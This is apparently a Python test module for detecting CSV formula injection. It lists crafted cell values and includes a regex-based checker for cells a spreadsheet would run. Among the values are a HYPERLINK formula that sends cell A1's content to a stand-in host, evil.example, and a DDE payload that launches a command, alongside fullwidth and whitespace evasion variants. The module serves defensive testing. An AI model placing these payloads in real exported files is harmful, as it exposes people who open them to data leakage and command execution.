"""Names that a spreadsheet would run, and what of a CSV file it would run."""

from __future__ import annotations

import csv
import io
import re

#: What the people file can hold: without control characters, and not beginning with a blank.
NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"花子")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''@x",
    '"=1+1"',
    "花子,=1+1",
    "花子;=1+1",
    "' =1+1",
    "'",
)
#: What may stand in the tables all the same, whoever has written it.
WORSE_NAMES = (*NAMES, " =1+1", "\u3000＝1", "\u00a0+1", "\t=1+1", "\r=1", "\n=1", "花子\r\n=1+1")
_RUNS = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")


def table(content: bytes) -> list[list[str]]:
    """The cells as a spreadsheet reads them."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def what_runs(content: bytes) -> list[str]:
    """Cells that begin as a formula does, or as what some spreadsheets pass over to find one."""
    return [cell for line in table(content) for cell in line if _RUNS.match(cell)]
